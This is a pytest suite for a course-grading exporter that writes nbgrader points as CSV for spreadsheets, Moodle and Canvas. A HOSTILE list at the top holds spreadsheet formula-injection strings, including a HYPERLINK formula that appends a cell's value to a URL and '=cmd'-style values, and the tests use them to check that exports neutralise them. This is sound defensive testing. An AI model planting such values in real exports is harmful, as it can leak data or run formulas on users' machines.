"""Points as tables: the same as nbgrader's, safe in a spreadsheet, and as Moodle and Canvas read them."""

import csv
import datetime
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from nbgrader.api import Gradebook
from points_cohort import NOON, ONE, TWO, a_cohort, add, course, everything, hand_in
from typer.testing import CliRunner

from hindcast.errors import HindcastError
from hindcast.kit import cli
from hindcast.kit.export.csv_cells import csv_bytes, no_formula
from hindcast.kit.export.writing import ExportOptions, write_export
from hindcast.kit.gradebook.location import gradebook_url

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own

BOTH, WORKBOOK = "workbook and bench", "workbook"
PEOPLE = [
    ("zoe", "Zoë D’Souza", "zoe@example.org", BOTH),
    ("ana", "Ana de la Cruz", "ana@example.org", WORKBOOK),
    ("jun", "渡辺 潤", "", WORKBOOK),
]
HOSTILE = [
    '=HYPERLINK("http://example.org/?x="&A1,"Ana, her marks")',
    "+44 20 7946 0000",
    "-Ana",
    "@sum(1+1)",
    "  =1+1",
    "＝1+1",
    "﹣1+1",
    'Ana "Bo"; =cmd',
    "Ana;=1+1",
    "Ana,=1+1",
    "Ana\n=1+1",
    "\t=1+1",
    "\rAna",
    "\u200f=1+1",
    "\ufeff=1+1",
]


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A checkout with two units and a cohort of three. Shared by tests: read only."""
    root = course(tmp_path_factory.mktemp("export") / "checkout")
    a_cohort(root, PEOPLE)
    return root


@pytest.fixture
def cohort(made, tmp_path):
    return Path(shutil.copytree(made, tmp_path / "checkout")) / "grading" / "cohorts" / "spring"


def run(cohort, *units, **chosen):
    return write_export(cohort.parents[2], cohort, ExportOptions(units=units, **chosen))


def rows(cohort, name="points.csv", **more):
    """The file as Python's csv reads it: header -> cell, by the first column."""
    with (cohort / "export" / name).open(encoding="utf-8-sig", newline="") as file:
        return {next(iter(row.values())): row for row in csv.DictReader(file, **more)}


# --- points -----------------------------------------------------------------------------------------


def test_points_of_a_unit_are_those_that_nbgrader_itself_exports(cohort):
    hand_in(cohort, "zoe", zebra=1.5, apple=(0.0, 1.25, 0.5, False), why=(None, 2, None, False))
    hand_in(cohort, "zoe", notebook="bench", penalty=0.75, loop=(0.1, None, 0.2, False))
    hand_in(cohort, "ana", penalty=9.0, zebra=2, apple=0.5)
    hand_in(cohort, "ana", TWO, zebra=1 / 3, apple=(1.0, 0.0, None, False), why=(None, None, None, True))
    stock = cohort / "stock.csv"
    command = [sys.executable, "-m", "nbgrader", "export", "--to", str(stock)]
    subprocess.run(command, cwd=cohort, check=True, capture_output=True)
    run(cohort)
    ours, compared = pd.read_csv(cohort / "export" / "points.csv").set_index("id"), 0
    for theirs in pd.read_csv(stock).itertuples():
        points = ours.loc[theirs.student_id, f"{theirs.assignment} points"]
        if theirs.timestamp == theirs.timestamp:
            assert points == pytest.approx(theirs.score, abs=1e-6)
            compared += 1
        else:  # nothing was handed in: nbgrader writes a zero, we write nothing
            assert theirs.score == 0 and pd.isna(points)
    assert compared == 3
    assert ours.loc["ana", f"{ONE} points"] == 0  # never below none
    assert ours.loc["zoe", f"{ONE} points"] == pytest.approx(1.5 + 1.75 + 2 + 0.3 - 0.75)


def test_a_learner_of_the_track_workbook_has_an_empty_bench_and_is_not_measured_by_it(cohort):
    everything(cohort, "ana")
    everything(cohort, "zoe", bench=True)
    run(cohort)
    ana, zoe = rows(cohort)["ana"], rows(cohort)["zoe"]
    assert (ana[f"{ONE} points"], ana[f"{ONE} of"], ana[f"{ONE} bench loop"]) == ("7", "7", "")
    assert (zoe[f"{ONE} points"], zoe[f"{ONE} of"], zoe[f"{ONE} bench loop"]) == ("11", "11", "4")
    assert (ana["points"], ana["of"], zoe["points"], zoe["of"]) == ("14", "14", "22", "22")


def test_a_bench_outside_of_the_track_is_counted_nowhere_and_said(cohort):
    everything(cohort, "ana", [ONE], bench=True)
    done = run(cohort)
    assert rows(cohort)["ana"]["points"] == "7" and rows(cohort)["ana"][f"{ONE} bench loop"] == ""
    assert any("not counted: ana (01_counting)" in line for line in done.said)
    run(cohort, kind="canvas")
    assert rows(cohort, "canvas.csv")["Ana de la Cruz"][f"{ONE} bench"] == ""


def test_the_penalty_for_a_late_hand_in_is_taken_off_for_a_platform_too(cohort):
    hand_in(cohort, "ana", penalty=1.5, zebra=2, apple=2)
    run(cohort, kind="canvas")
    assert rows(cohort, "canvas.csv")["Ana de la Cruz"][f"{ONE} workbook"] == "2.5"


def test_whose_track_nobody_knows_is_measured_by_what_they_handed_in(cohort):
    add(cohort, ("amy", "Amy", "Okoye", ""), ("ben", "Ben", "Roy", ""))
    everything(cohort, "amy", [ONE], bench=True)
    everything(cohort, "ben", [ONE])
    run(cohort, ONE)
    told = [(row["points"], row["of"]) for row in rows(cohort).values()]
    assert told[3:] == [("11", "11"), ("7", "7")]


def test_what_nobody_handed_in_is_empty_and_everyone_has_a_row_in_the_rosters_order(cohort):
    everything(cohort, "ana", [ONE])
    add(cohort, ["amy", "Amy", "Okoye", "amy@example.org"])
    run(cohort)
    assert list(rows(cohort)) == ["zoe", "ana", "jun", "amy"]
    assert [row["name"] for row in rows(cohort).values()] == [
        *(name for _, name, _, _ in PEOPLE),
        "Amy Okoye",
    ]
    jun = rows(cohort)["jun"]
    assert (jun["role"], jun["track"], jun["points"], jun["of"]) == ("other", WORKBOOK, "", "14")
    assert {jun[f"{ONE} {what}"] for what in ("points", "handed in (UTC)", "late", "still to do")} == {""}


def test_a_hand_in_that_is_not_graded_has_no_points_and_is_named(cohort):
    hand_in(cohort, "jun", graded=False)
    done = run(cohort)
    jun = rows(cohort)["jun"]
    assert (jun[f"{ONE} points"], jun[f"{ONE} handed in (UTC)"]) == ("", "time unknown")
    assert jun[f"{ONE} still to do"] == "workbook: not graded yet"
    assert done.waiting == {"jun": f"{ONE} workbook: not graded yet"}


def test_a_text_that_waits_for_a_person_is_empty_until_it_is_scored(cohort):
    hand_in(cohort, "ana", zebra=2, apple=2, why=(None, None, None, True))
    done = run(cohort)
    ana = rows(cohort)["ana"]
    assert (ana[f"{ONE} workbook why"], ana[f"{ONE} points"]) == ("", "4")
    assert ana[f"{ONE} still to do"] == "workbook: 1 answer to be read by a person"
    assert any("1 learner has answers that nobody has scored yet" in line for line in done.said)
    run(cohort, kind="moodle")
    assert rows(cohort, "moodle.csv")["ana@example.org"][f"{ONE} workbook"] == "-"
    hand_in(cohort, "ana", why=(None, 0, None, False))
    done = run(cohort)
    assert (rows(cohort)["ana"][f"{ONE} workbook why"], done.waiting) == ("0", {})
    run(cohort, kind="moodle")
    assert rows(cohort, "moodle.csv")["ana@example.org"][f"{ONE} workbook"] == "4"
    hand_in(cohort, "ana", why=(None, 0, None, True))  # graded again: the zero that a person gave stays
    run(cohort)
    assert rows(cohort)["ana"][f"{ONE} workbook why"] == "0"


def test_times_are_of_the_hand_in_and_late_is_after_the_date_due(cohort):
    hand_in(cohort, "zoe", at=NOON + datetime.timedelta(hours=30), zebra=2)  # without the bench
    hand_in(cohort, "ana", zebra=2)
    with Gradebook(gradebook_url(cohort), "") as gradebook:
        gradebook.update_or_create_assignment(ONE, duedate=NOON)
    run(cohort)
    told = [(row[f"{ONE} handed in (UTC)"], row[f"{ONE} late"]) for row in rows(cohort).values()]
    assert told == [("2026-05-05 18:00", "yes"), ("2026-05-04 12:00", "no"), ("", "")]


def test_exercises_stand_in_the_order_of_the_notebook(cohort):
    run(cohort, ONE)
    header = list(rows(cohort)["ana"])
    assert header[-4:] == [
        f"{ONE} {name}" for name in ("workbook zebra", "workbook apple", "workbook why", "bench loop")
    ]
    assert not any(TWO in name for name in header)


def test_every_answer_has_a_row_with_what_came_of_it(cohort):
    hand_in(cohort, "ana", zebra=1.5, apple=(0.0, 1.0, None, False), why=(None, None, None, True))
    run(cohort)
    with (cohort / "export" / "exercises.csv").open(encoding="utf-8-sig", newline="") as file:
        told = {
            row["exercise"]: (row["points"], row["of"], row["waits"], row["by hand"])
            for row in csv.DictReader(file)
        }
    assert told == {
        "zebra": ("1.5", "2", "no", "no"),
        "apple": ("1", "2", "no", "yes"),
        "why": ("", "3", "yes", "no"),
    }


def test_an_assignment_of_the_trainers_own_is_exported_by_its_name(cohort):
    with Gradebook(gradebook_url(cohort), "") as gradebook:
        gradebook.add_assignment("quiz")
        gradebook.add_notebook("paper", "quiz")
        gradebook.add_grade_cell("q1", "paper", "quiz", max_score=5, cell_type="code")
    run(cohort, "quiz")
    assert rows(cohort)["ana"]["of"] == "5" and "quiz paper q1" in rows(cohort)["ana"]


# --- spreadsheets -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_spreadsheet_finds_a_formula_in_a_text_whatever_separates_its_cells(text, separator):
    written = csv_bytes([["id", "name", "points"], ["x", text, 1.5]], mark=False).decode()
    if separator == ",":
        assert list(csv.reader(io.StringIO(written, newline="")))[1] == ["x", no_formula(text), "1.5"]
        assert text in (no_formula(text).lstrip("'"), no_formula(text).replace("'", ""))
    for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
        for cell in row:
            seen = cell.replace("\u200f", "").replace("\ufeff", "").strip(' "')
            assert seen[:1] not in ("=", "+", "-", "@", "＝", "﹣") and not cell.startswith(
                ("\t", "\r", "\n")
            )


@pytest.mark.parametrize(
    "text", ["Ana", "Ana-Lena + Bo", "O'Neil", "-", "", "a=b", "ana@example.org", "渡辺 潤"]
)
def test_an_ordinary_text_stays_as_it_is(text):
    assert no_formula(text) == text


def test_every_text_is_quoted_so_that_a_semicolon_in_a_name_ends_no_cell():
    assert csv_bytes([["Ana; Bo", 1, None]], mark=False) == b'"Ana; Bo",1,""\r\n'


def test_numbers_stay_numbers_also_below_zero(cohort):
    hand_in(cohort, "ana", zebra=(0.0, -0.5, None, False), apple=0.1 + 0.2)
    run(cohort)
    ana = rows(cohort)["ana"]
    assert (ana[f"{ONE} workbook zebra"], ana[f"{ONE} workbook apple"]) == ("-0.5", "0.3")


def test_names_come_back_from_the_file_as_they_are_in_the_roster(cohort):
    text = cohort / "export" / "points.csv"
    run(cohort)
    assert text.read_bytes().startswith(b"\xef\xbb\xbf")  # without it Excel garbles accents
    assert list(pd.read_csv(text)["name"]) == [name for _, name, _, _ in PEOPLE]
    assert list(pd.read_csv(text)["id"]) == ["zoe", "ana", "jun"]


def test_a_name_that_is_a_formula_is_in_no_file_as_one(cohort):
    for number, name in enumerate(HOSTILE):
        add(cohort, (f"x{number}", "", name, "=x@example.org"))
    everything(cohort, "x0")
    for kind in ("csv", "moodle", "canvas"):
        for path in run(cohort, kind=kind).files:
            for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
                assert not any(cell[:1] in tuple("=+@\t\r\n") or cell[:2] == "-A" for cell in row), row


# --- learning platforms -----------------------------------------------------------------------------


def test_moodle_finds_people_by_email_and_no_cell_is_empty(cohort):
    everything(cohort, "zoe", [ONE], bench=True)
    everything(cohort, "ana", [ONE])
    done = run(cohort, kind="moodle")
    with done.files[0].open(encoding="utf-8", newline="") as file:
        header, *people = csv.reader(file)
    assert header == [
        "Email address",
        "Full name",
        *(f"{u} {n}" for u in (ONE, TWO) for n in ("workbook", "bench")),
    ]
    assert people == [
        ["zoe@example.org", "Zoë D’Souza", "7", "4", "-", "-"],
        ["ana@example.org", "Ana de la Cruz", "7", "-", "-", "-"],
    ]
    assert any("01_counting workbook: 7, 01_counting bench: 4" in line for line in done.said)
    assert any("Not in moodle.csv" in line and "渡辺 潤" in line for line in done.said)


def test_moodle_never_gets_an_address_twice_nor_one_that_was_changed(cohort):
    add(cohort, ("amy", "Amy", "Okoye", "ZOE@example.org"), ("ben", "Ben", "Roy", "+ben@example.org"))
    done = run(cohort, kind="moodle")
    assert list(rows(cohort, "moodle.csv")) == ["ana@example.org"]
    assert any(all(name in line for name in ("Zoë D’Souza", "Amy Okoye", "Ben Roy")) for line in done.said)


def test_moodle_finds_people_by_id_where_nobody_has_an_address(tmp_path):
    cohort = a_cohort(course(tmp_path / "checkout", [ONE]), [("ana", "Ana", "", WORKBOOK)])
    done = run(cohort, kind="moodle")
    assert list(rows(cohort, "moodle.csv")["ana"])[:2] == ["ID number", "Full name"]
    assert 'Map from "ID number"' in done.said[0]


def test_canvas_finds_its_columns_and_the_points_of_each(cohort):
    everything(cohort, "zoe", [ONE], bench=True)
    everything(cohort, "ana", [ONE])
    done = run(cohort, kind="canvas")
    data = done.files[0].read_bytes()
    header, possible, *people = csv.reader(io.StringIO(data.decode(), newline=""))
    assert not data.startswith(b"\xef\xbb\xbf")  # Ruby's CSV reader fails on a byte order mark before a quote
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert (possible[0].strip(), possible[1:5], possible[5:]) == (
        "Points Possible",
        [""] * 4,
        ["7", "4", "7", "4"],
    )
    assert people == [
        ["Zoë D’Souza", "", "zoe", "zoe@example.org", "", "7", "4", "", ""],
        ["Ana de la Cruz", "", "ana", "ana@example.org", "", "7", "", "", ""],
        ["渡辺 潤", "", "jun", "", "", "", "", "", ""],
    ]


# --- the command ------------------------------------------------------------------------------------


def test_a_second_run_makes_the_same_bytes_and_leaves_nothing_beside_them(cohort):
    everything(cohort, "ana")
    before = {path: path.read_bytes() for path in run(cohort).files}
    assert {path: path.read_bytes() for path in run(cohort).files} == before
    assert sorted(path.name for path in (cohort / "export").iterdir()) == ["exercises.csv", "points.csv"]


@pytest.mark.parametrize(
    ("chosen", "said"),
    [
        ({"units": ("03_none",)}, "knows no unit '03_none'"),
        ({"kind": "excel"}, "no format 'excel'"),
        ({"path": "half"}, "no path 'half'"),
    ],
)
def test_what_is_not_there_is_named_and_nothing_is_written(cohort, chosen, said):
    with pytest.raises(HindcastError, match=said):
        write_export(cohort.parents[2], cohort, ExportOptions(**chosen))
    assert not (cohort / "export").exists()


def test_a_roster_that_cannot_be_read_stops_the_export(cohort):
    (cohort / "roster.csv").write_text("id,name\nana,Ana\n")
    with pytest.raises(HindcastError, match="no column"):
        run(cohort)


def test_a_place_that_cannot_be_written_is_a_sentence_and_keeps_what_was_there(cohort, tmp_path):
    (tmp_path / "taken").write_text("mine")
    with pytest.raises(HindcastError, match=r"taken could not be written"):
        run(cohort, to=tmp_path / "taken")
    assert (tmp_path / "taken").read_text() == "mine"
    folder = tmp_path / "shared"
    (folder / "exercises.csv").mkdir(parents=True)
    with pytest.raises(HindcastError, match=r"could not be written \(exercises.csv is a folder there\)"):
        run(cohort, to=folder)
    assert [path.name for path in folder.iterdir()] == ["exercises.csv"]


def test_files_go_where_the_trainer_says(cohort, tmp_path):
    done = run(cohort, to=tmp_path / "a b" / "ü")
    assert {path.parent for path in done.files} == {tmp_path / "a b" / "ü"}
    assert not (cohort / "export").exists()


def test_the_command_says_where_the_files_are_or_prints_one_object(cohort, monkeypatch):
    monkeypatch.chdir(cohort.parents[2])
    hand_in(cohort, "jun", graded=False)
    shown = CliRunner().invoke(cli.app, ["export", ONE]).stdout
    assert f"wrote {cohort / 'export' / 'points.csv'}" in shown and "not graded yet" in shown
    told = json.loads(CliRunner().invoke(cli.app, ["export", "--format", "canvas", "--json"]).stdout)
    assert told["files"] == [str(cohort / "export" / "canvas.csv")]
    assert (told["learners"], list(told["waiting"])) == (3, ["jun"])
